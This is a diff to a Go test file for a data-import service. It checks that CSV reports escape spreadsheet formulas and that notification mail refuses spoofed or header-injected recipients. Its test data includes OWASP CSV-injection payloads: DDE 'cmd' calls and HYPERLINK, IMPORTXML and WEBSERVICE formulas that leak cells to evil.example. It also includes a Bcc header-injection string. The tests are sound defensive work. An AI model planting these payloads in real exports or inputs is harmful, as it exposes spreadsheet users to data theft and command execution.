@@ -4,7 +4,11 @@ import (
 	"bytes"
 	"encoding/csv"
 	"reflect"
+	"regexp"
+	"strconv"
+	"strings"
 	"testing"
+	"unicode/utf8"
 
 	"github.com/sluicehq/sluice/notify"
 	"github.com/sluicehq/sluice/platform"
@@ -22,8 +26,14 @@ func TestEscape(t *testing.T) {
 		{name: "plus", cell: "+1 555 0100", want: "'+1 555 0100"},
 		{name: "minus", cell: "-2+3", want: "'-2+3"},
 		{name: "at", cell: "@SUM(A1:A2)", want: "'@SUM(A1:A2)"},
-		{name: "tab", cell: "\t=1", want: "'\t=1"},
-		{name: "carriage return", cell: "\r=1", want: "'\r=1"},
+		{name: "tab", cell: "\t=1", want: "'\t'=1"},
+		{name: "carriage return", cell: "\r=1", want: "'\r'=1"},
+		{name: "spaces first", cell: "  =1+1", want: "  '=1+1"},
+		{name: "quote first", cell: `"=1+1"`, want: `"'=1+1"`},
+		{name: "full-width equals", cell: "＝1+1", want: "'＝1+1"},
+		{name: "after a semicolon", cell: "x;=2+5+cmd|' /C calc'!A0", want: "x;'=2+5+cmd|' /C calc'!A0"},
+		{name: "after a comma and a space", cell: "a, -b", want: "a, '-b"},
+		{name: "after a line break", cell: "a\n@b", want: "a\n'@b"},
 		{name: "plain text", cell: "John", want: "John"},
 		{name: "email", cell: "john@example.com", want: "john@example.com"},
 		{name: "formula sign later", cell: "a=1", want: "a=1"},
@@ -37,6 +47,78 @@ func TestEscape(t *testing.T) {
 				t.Errorf("Escape(%q) = %q, want %q", tc.cell, got, tc.want)
 			}
 		})
+	}
+}
+
+// owaspPayloads are OWASP's CSV-injection examples (and the variants the
+// cheat sheet warns of: a tab or a carriage return first, a formula after a
+// separator inside the cell, quotes around it).
+var owaspPayloads = []string{
+	"=cmd|' /C calc'!A0",
+	"=2+5+cmd|' /C calc'!A0",
+	"+cmd|' /C calc'!A0",
+	"-2+3+cmd|' /C calc'!A0",
+	"@SUM(1+9)*cmd|' /C calc'!A0",
+	`=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: click here")`,
+	`=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")`,
+	`=WEBSERVICE("http://evil.example/"&A1)`,
+	"\t=1+1",
+	"\r=1+1",
+	"x;=2+5+cmd|' /C calc'!A0",
+	"x,=2+5+cmd|' /C calc'!A0",
+	"x\t=2+5+cmd|' /C calc'!A0",
+	`x;"=1+1`,
+	`x","=1+1`,
+	"x\r\n=1+1",
+	"  @SUM(1)",
+}
+
+// TestReportOpensAsText writes every OWASP payload into every text column
+// of a report and reads the report as spreadsheets do: as CSV with a comma,
+// and split at every comma, semicolon, tab and line break whatever the
+// quotes say (the reading of a spreadsheet whose list separator is not the
+// file's). No piece starts a formula, every cell is quoted, and the comma
+// reading gives each cell back as Escape made it.
+func TestReportOpensAsText(t *testing.T) {
+	var buf bytes.Buffer
+	w, err := notify.NewReportWriter(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, p := range owaspPayloads {
+		if err := w.Write(schemas.Rejected{N: i + 1, Violations: []schemas.Violation{{Column: p, Code: schemas.CodeFormat, Value: p, Message: p}}}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	report := buf.String()
+
+	lines, err := csv.NewReader(strings.NewReader(report)).ReadAll()
+	if err != nil {
+		t.Fatalf("report is not CSV: %v", err)
+	}
+	for i, p := range owaspPayloads {
+		e := strings.ReplaceAll(notify.Escape(p), "\r\n", "\n") // encoding/csv reads a quoted CRLF as LF
+		want := []string{strconv.Itoa(i + 1), e, schemas.CodeFormat, e, e}
+		if !reflect.DeepEqual(lines[i+1], want) {
+			t.Errorf("line of %q = %q, want %q", p, lines[i+1], want)
+		}
+	}
+	quoted := regexp.MustCompile(`^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*\r\n`)
+	for rest := report; rest != ""; {
+		m := quoted.FindString(rest)
+		if m == "" {
+			t.Fatalf("a line with a cell not quoted: %q", rest[:min(len(rest), 80)])
+		}
+		rest = rest[len(m):]
+	}
+	for _, piece := range strings.FieldsFunc(report, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
+		first, _ := utf8.DecodeRuneInString(strings.TrimLeft(piece, ` "`))
+		if strings.ContainsRune("=+-@＝＋－＠", first) {
+			t.Errorf("a spreadsheet splitting the report finds a formula: %q", piece)
+		}
 	}
 }
 
@@ -138,32 +220,52 @@ func TestHeaderSafe(t *testing.T) {
 	}
 }
 
-func TestRecipient(t *testing.T) {
-	tenants := platform.Tenants{
-		"acme": {Contact: "ops@acme.example", MaxRows: 5000},
-		"beta": {MaxRows: 5000},
-	}
+func TestRecipientOf(t *testing.T) {
+	acme := platform.Tenant{Contact: "ops@acme.example", Recipients: []string{"acme.example", "audit@partner.example"}}
 	cases := []struct {
 		name     string
-		tenant   string
+		tenant   platform.Tenant
 		uploader string
-		want     string
+		want     notify.Recipient
 	}{
-		{name: "uploader is an email", tenant: "acme", uploader: "jane@acme.example", want: "jane@acme.example"},
-		{name: "no uploader: tenant contact", tenant: "acme", want: "ops@acme.example"},
-		{name: "uploader not an email: tenant contact", tenant: "acme", uploader: "jane", want: "ops@acme.example"},
-		{name: "uploader with an injected header: tenant contact", tenant: "acme",
-			uploader: "jane@acme.exampleBcc: all@acme.example", want: "ops@acme.example"},
-		{name: "uploader of a tenant with no contact", tenant: "beta", uploader: "bob@beta.example", want: "bob@beta.example"},
-		{name: "nobody", tenant: "beta", want: ""},
-		{name: "unknown tenant", tenant: "gamma", want: ""},
+		{name: "uploader of an allowed domain", tenant: acme, uploader: "jane@acme.example", want: notify.Recipient{To: "jane@acme.example"}},
+		{name: "allowed domain, other case", tenant: acme, uploader: "Jane@ACME.example", want: notify.Recipient{To: "Jane@ACME.example"}},
+		{name: "allowed address", tenant: acme, uploader: "audit@partner.example", want: notify.Recipient{To: "audit@partner.example"}},
+		{name: "another address of an allowed address's domain", tenant: acme, uploader: "boss@partner.example",
+			want: notify.Recipient{To: "ops@acme.example", Claimed: "boss@partner.example"}},
+		{name: "a subdomain is another domain", tenant: acme, uploader: "x@evil.acme.example",
+			want: notify.Recipient{To: "ops@acme.example", Claimed: "x@evil.acme.example"}},
+		{name: "anyone else: the contact, told who was claimed", tenant: acme, uploader: "victim@elsewhere.example",
+			want: notify.Recipient{To: "ops@acme.example", Claimed: "victim@elsewhere.example"}},
+		{name: "no uploader: tenant contact", tenant: acme, want: notify.Recipient{To: "ops@acme.example"}},
+		{name: "uploader not an email", tenant: acme, uploader: "jane", want: notify.Recipient{To: "ops@acme.example", Claimed: "jane"}},
+		{name: "uploader with an injected header", tenant: acme, uploader: "jane@acme.exampleBcc: all@acme.example",
+			want: notify.Recipient{To: "ops@acme.example", Claimed: "jane@acme.exampleBcc: all@acme.example"}},
+		{name: "the contact itself", tenant: platform.Tenant{Contact: "ops@acme.example"}, uploader: "OPS@acme.example",
+			want: notify.Recipient{To: "OPS@acme.example"}},
+		{name: "a tenant that allows nobody else and has no contact", tenant: platform.Tenant{}, uploader: "bob@beta.example",
+			want: notify.Recipient{Claimed: "bob@beta.example"}},
+		{name: "unknown tenant, nobody", tenant: platform.Tenant{}},
 	}
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
-			imp := schemas.Import{ID: "imp-1", Tenant: tc.tenant, Dataset: "clients", Uploader: tc.uploader}
-			if got := notify.Recipient(imp, tenants); got != tc.want {
-				t.Errorf("Recipient(tenant %q, uploader %q) = %q, want %q", tc.tenant, tc.uploader, got, tc.want)
+			imp := schemas.Import{ID: "imp-1", Tenant: "acme", Dataset: "clients", Uploader: tc.uploader}
+			if got := notify.RecipientOf(imp, tc.tenant); got != tc.want {
+				t.Errorf("RecipientOf(uploader %q) = %+v, want %+v", tc.uploader, got, tc.want)
 			}
 		})
+	}
+}
+
+func TestRecipientAddress(t *testing.T) {
+	m := notify.Mail{Subject: "s", Body: "Your file was imported.\n"}
+	if got := (notify.Recipient{To: "jane@acme.example"}).Address(m); got.To != "jane@acme.example" || got.Body != m.Body {
+		t.Errorf("allowed uploader: got %+v, want the mail unchanged, to jane", got)
+	}
+	got := (notify.Recipient{To: "ops@acme.example", Claimed: "victim@elsewhere.example\r\nBcc: x@y"}).Address(m)
+	want := "The upload named \"victim@elsewhere.example Bcc: x@y\" to be told of this import. That address is not among " +
+		"those your company lets sluice mail, so this email comes to you, the company's contact.\n\nYour file was imported.\n"
+	if got.To != "ops@acme.example" || got.Body != want {
+		t.Errorf("refused uploader: got %+v, want to the contact with body\n%s", got, want)
 	}
 }
